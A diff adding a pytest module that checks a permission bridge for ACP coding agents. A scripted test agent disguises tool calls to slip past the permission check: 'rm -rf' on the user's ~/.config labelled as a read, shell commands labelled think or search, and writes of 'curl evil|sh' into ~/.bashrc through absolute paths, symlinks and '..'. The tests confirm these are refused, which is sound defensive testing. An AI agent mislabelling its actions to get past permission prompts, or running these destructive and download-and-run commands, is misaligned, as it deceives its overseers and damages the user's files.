@@ -1,0 +1,283 @@
+"""An ACP agent's declared tool kind is advisory: Logist's bridge judges each
+`session/request_permission` by what the call carries (review finding R3).
+
+A real ACP agent (`acp_permission_agent.py`, written with the SDK) asks leave for tool calls
+labelled loosely, and does what it asked for when allowed; the real bridge answers from the
+job's policy. A shell command is `execute` whatever its label; a write naming a path outside
+the workspace under any key (or through a symlink, or with `..`) is refused whatever the
+policy; a write naming no path is asked, never taken to be inside; honest calls in the
+shapes the real agents send still go through.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conftest import make_repo
+
+AGENT = Path(__file__).resolve().parent / "acp_permission_agent.py"
+BRIDGE = [sys.executable, "-I", "-m", "logist_server.providers.agents.acp_bridge"]
+KINDS = ("read", "search", "think", "edit", "delete", "move", "execute", "fetch", "other")
+ALL_ALLOWED = dict.fromkeys(KINDS, "allow")
+
+
+class Run:
+    """One bridge run: its exit status, its events, the questions it asked."""
+
+    def __init__(self, code: int, events: list[dict[str, Any]]) -> None:
+        self.code = code
+        self.events = events
+        self.questions = [e for e in events if e["type"] == "question"]
+        self.said = [
+            line for e in events if e["type"] == "message" for line in e["text"].splitlines()
+        ]
+
+    def chosen(self) -> dict[str, str]:
+        """Each step's id -> the option the client chose."""
+        return {line.split()[1]: line.split()[-1] for line in self.said if line.startswith("CALL ")}
+
+
+def run_bridge(
+    tmp_path: Path,
+    workspace: Path,
+    steps: list[dict[str, Any]],
+    permissions: dict[str, str] | None = None,
+    answers: list[str] | None = None,
+) -> Run:
+    """Run the real bridge on the agent with `steps`; each question it prints is answered
+    with the next of `answers` (written atomically, as Logist does); None: nobody answers."""
+    script = tmp_path / "steps.json"
+    script.write_text(json.dumps(steps))
+    prompt = tmp_path / "prompt.txt"
+    prompt.write_text("use your tools")
+    config: dict[str, Any] = {
+        "agent": [sys.executable, str(AGENT), str(script)],
+        "workspace": str(workspace), "prompt_file": str(prompt), "init_timeout": 60,
+    }  # fmt: skip
+    if permissions is not None:
+        config["permissions"] = permissions
+    env = {k: v for k, v in os.environ.items() if k != "LOGIST_ANSWER_FILE"}
+    answer_file = tmp_path / "answer"
+    if answers is not None:
+        env["LOGIST_ANSWER_FILE"] = str(answer_file)
+    proc = subprocess.Popen(
+        [*BRIDGE, "--config=" + json.dumps(config)], cwd=workspace, env=env,
+        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    guard = threading.Timer(180, proc.kill)  # only guards a hang
+    guard.start()
+    events: list[dict[str, Any]] = []
+    pending = list(answers or [])
+    try:
+        assert proc.stdout is not None
+        for line in proc.stdout:
+            if not line.strip():
+                continue
+            event = json.loads(line)
+            events.append(event)
+            if event["type"] == "question" and answers is not None:
+                assert pending, f"an unexpected question: {event}"
+                partial = tmp_path / "answer.part"
+                partial.write_text(pending.pop(0))
+                os.replace(partial, answer_file)
+        proc.wait()
+    finally:
+        guard.cancel()
+        proc.kill()
+        proc.wait()
+    assert proc.stderr is not None
+    run = Run(proc.returncode, events)
+    assert run.code == 0, (events, proc.stderr.read())
+    return run
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    return make_repo(tmp_path / "ws", {"a.txt": b"hello\n", "b.txt": b"bee\n"})
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    """A user's home outside the workspace, with files worth attacking."""
+    path = tmp_path / "home"
+    (path / ".config").mkdir(parents=True)
+    (path / ".config" / "keep.txt").write_text("keep me\n")
+    (path / ".bashrc").write_text("# the user's own\n")
+    return path
+
+
+def snapshot(root: Path) -> dict[str, bytes]:
+    return {str(p): p.read_bytes() if p.is_file() else b"<dir>" for p in sorted(root.rglob("*"))}
+
+
+def command_steps(home: Path) -> list[dict[str, Any]]:
+    """Shell commands labelled as harmless kinds (and one named only in an earlier update)."""
+    victim = str(home / ".config")
+    touch = f"touch {home / 'pwned'}"
+    return [
+        {"id": "rm-as-read",
+         "call": {"toolCallId": "c1", "kind": "read", "title": f"rm -rf {victim}",
+                  "rawInput": {"command": f"rm -rf {victim}"}},
+         "then": {"run": ["rm", "-rf", victim]}},
+        {"id": "curl-as-think",
+         "call": {"toolCallId": "c2", "kind": "think", "title": "thinking",
+                  "rawInput": {"command": touch}},
+         "then": {"run": ["sh", "-c", touch]}},
+        {"id": "argv-as-search",
+         "call": {"toolCallId": "c3", "kind": "search", "title": "search",
+                  "rawInput": {"options": {"cmd": ["touch", str(home / "pwned")]}}},
+         "then": {"run": ["touch", str(home / "pwned")]}},
+        {"id": "command-in-earlier-update",
+         "update": {"toolCallId": "c4", "kind": "read", "title": "read",
+                    "rawInput": {"command": touch}},
+         "call": {"toolCallId": "c4"},
+         "then": {"run": ["sh", "-c", touch]}},
+    ]  # fmt: skip
+
+
+def test_a_shell_command_is_execute_whatever_its_label(
+    tmp_path: Path, workspace: Path, home: Path
+) -> None:
+    """Every kind allowed but `execute`: commands labelled read/think/search are refused,
+    an honest read still goes through."""
+    before = snapshot(home)
+    honest_read = {
+        "id": "honest-read",
+        "call": {"toolCallId": "r1", "kind": "read", "title": "Read a.txt",
+                 "rawInput": {"file_path": str(workspace / "a.txt")},
+                 "locations": [{"path": str(workspace / "a.txt")}]},
+    }  # fmt: skip
+    policy = dict(ALL_ALLOWED, execute="deny")
+    run = run_bridge(tmp_path, workspace, [*command_steps(home), honest_read], policy)
+    assert run.chosen() == {
+        "rm-as-read": "reject", "curl-as-think": "reject", "argv-as-search": "reject",
+        "command-in-earlier-update": "reject", "honest-read": "allow",
+    }  # fmt: skip
+    assert snapshot(home) == before
+
+
+def test_by_default_a_labelled_command_is_asked_as_a_command(
+    tmp_path: Path, workspace: Path, home: Path
+) -> None:
+    """The default policy (execute: ask): the user is asked, and told it is a command."""
+    before = snapshot(home)
+    steps = command_steps(home)[:2]
+    run = run_bridge(tmp_path, workspace, steps, answers=["Reject", "Reject"])
+    assert run.chosen() == {"rm-as-read": "reject", "curl-as-think": "reject"}
+    assert [q["id"] for q in run.questions] == ["c1", "c2"]
+    for question in run.questions:
+        assert question["kind"] == "permission"
+        assert question["text"].startswith("The agent asks leave to execute:"), question
+    assert snapshot(home) == before
+    # Nobody to answer: refused, never allowed.
+    run = run_bridge(tmp_path, workspace, steps)
+    assert run.chosen() == {"rm-as-read": "reject", "curl-as-think": "reject"}
+    assert snapshot(home) == before
+
+
+def test_a_write_outside_the_workspace_is_refused_under_any_key_whatever_the_policy(
+    tmp_path: Path, workspace: Path, home: Path
+) -> None:
+    (workspace / "link").symlink_to(home)  # planted by the agent: inside by name only
+    before = snapshot(home)
+    bashrc, ws = str(home / ".bashrc"), str(workspace)
+    hostile = [
+        {"id": "edit-absolute_path",
+         "call": {"toolCallId": "w1", "kind": "edit", "title": "WriteFile",
+                  "rawInput": {"absolute_path": bashrc, "content": "curl evil|sh\n"}},
+         "then": {"write": bashrc, "text": "curl evil|sh\n"}},
+        {"id": "move-destination",
+         "call": {"toolCallId": "w2", "kind": "move", "title": "Move",
+                  "rawInput": {"source": "a.txt", "destination": bashrc}},
+         "then": {"move": ["a.txt", bashrc]}},
+        {"id": "delete-dir_path",
+         "call": {"toolCallId": "w3", "kind": "delete", "title": "Delete",
+                  "rawInput": {"dir_path": str(home / ".config"), "recursive": True}},
+         "then": {"run": ["rm", "-rf", str(home / ".config")]}},
+        {"id": "edit-nested-target",
+         "call": {"toolCallId": "w4", "kind": "edit", "title": "MultiEdit",
+                  "rawInput": {"edits": [{"filePath": "a.txt", "new_string": "x"},
+                                         {"target_file": bashrc, "new_string": "x"}]}},
+         "then": {"write": bashrc, "text": "x"}},
+        {"id": "edit-through-symlink",
+         "call": {"toolCallId": "w5", "kind": "edit", "title": "Edit link/.bashrc",
+                  "rawInput": {"target": "link/.bashrc", "content": "pwned\n"}},
+         "then": {"write": "link/.bashrc", "text": "pwned\n"}},
+        {"id": "edit-cwd-dotdot",
+         "call": {"toolCallId": "w6", "kind": "edit", "title": "Edit .bashrc",
+                  "rawInput": {"cwd": "../home", "file": ".bashrc", "content": "pwned\n"}},
+         "then": {"write": "../home/.bashrc", "text": "pwned\n"}},
+        {"id": "diff-labelled-read",
+         "call": {"toolCallId": "w7", "kind": "read", "title": "Read .bashrc",
+                  "content": [{"type": "diff", "path": bashrc, "oldText": "# the user's own\n",
+                               "newText": "pwned\n"}]},
+         "then": {"write": bashrc, "text": "pwned\n"}},
+    ]  # fmt: skip
+    honest = [  # the shapes claude-agent-acp, gemini and codex-acp send (recorded samples)
+        {"id": "claude-edit",
+         "call": {"toolCallId": "h1", "kind": "edit", "title": "Edit a.txt",
+                  "rawInput": {"file_path": f"{ws}/a.txt", "old_string": "hello",
+                               "new_string": "hello there", "replace_all": False},
+                  "content": [{"type": "diff", "path": f"{ws}/a.txt", "oldText": "hello",
+                               "newText": "hello there"}],
+                  "locations": [{"path": f"{ws}/a.txt"}]},
+         "then": {"write": "a.txt", "text": "hello there\n"}},
+        {"id": "gemini-edit",
+         "call": {"toolCallId": "h2", "kind": "edit", "title": "b.txt: bee => bees",
+                  "content": [{"type": "diff", "path": f"{ws}/b.txt", "oldText": "bee\n",
+                               "newText": "bees\n"}],
+                  "locations": [{"path": f"{ws}/b.txt"}]},
+         "then": {"write": "b.txt", "text": "bees\n"}},
+        {"id": "codex-edit",
+         "call": {"toolCallId": "h3", "kind": "edit", "title": f"Edit {ws}/new/c.txt",
+                  "rawInput": {"call_id": "h3", "changes": {f"{ws}/new/c.txt": {
+                      "type": "add", "content": "sea\n", "move_path": None}}}},
+         "then": {"write": "new/c.txt", "text": "sea\n"}},
+        {"id": "move-inside",
+         "call": {"toolCallId": "h4", "kind": "move", "title": "Move",
+                  "rawInput": {"source": "new/c.txt", "destination": "new/d.txt"}},
+         "then": {"move": ["new/c.txt", "new/d.txt"]}},
+    ]  # fmt: skip
+    run = run_bridge(tmp_path, workspace, hostile + honest, ALL_ALLOWED)
+    assert run.chosen() == {
+        **{step["id"]: "reject" for step in hostile},
+        **{step["id"]: "allow" for step in honest},
+    }
+    assert not run.questions
+    assert snapshot(home) == before
+    assert (workspace / "a.txt").read_text() == "hello there\n"
+    assert (workspace / "b.txt").read_text() == "bees\n"
+    assert (workspace / "new" / "d.txt").read_text() == "sea\n"
+
+
+def test_a_write_naming_no_path_is_asked_never_taken_to_be_inside(
+    tmp_path: Path, workspace: Path
+) -> None:
+    """Every kind allowed: a write the client cannot place is still the user's call."""
+    steps = [
+        {"id": "patch-no-path",
+         "call": {"toolCallId": "p1", "kind": "edit", "title": "apply_patch",
+                  "rawInput": {"input": "*** Begin Patch\n*** Update File: /elsewhere\n"}},
+         "then": {"write": "patched.txt", "text": "patched\n"}},
+        {"id": "delete-nothing-named",
+         "call": {"toolCallId": "p2", "kind": "delete", "title": "Delete"},
+         "then": {"write": "deleted.txt", "text": "approved by the user\n"}},
+    ]  # fmt: skip
+    run = run_bridge(tmp_path, workspace, steps, ALL_ALLOWED, answers=["Reject", "Allow"])
+    assert run.chosen() == {"patch-no-path": "reject", "delete-nothing-named": "allow"}
+    assert [(q["id"], q["text"].split(":")[0]) for q in run.questions] == [
+        ("p1", "The agent asks leave to edit"),
+        ("p2", "The agent asks leave to delete"),
+    ]
+    assert not (workspace / "patched.txt").exists()
+    assert (workspace / "deleted.txt").exists()
+    run = run_bridge(tmp_path, workspace, steps, ALL_ALLOWED)  # nobody to answer
+    assert run.chosen() == {"patch-no-path": "reject", "delete-nothing-named": "reject"}
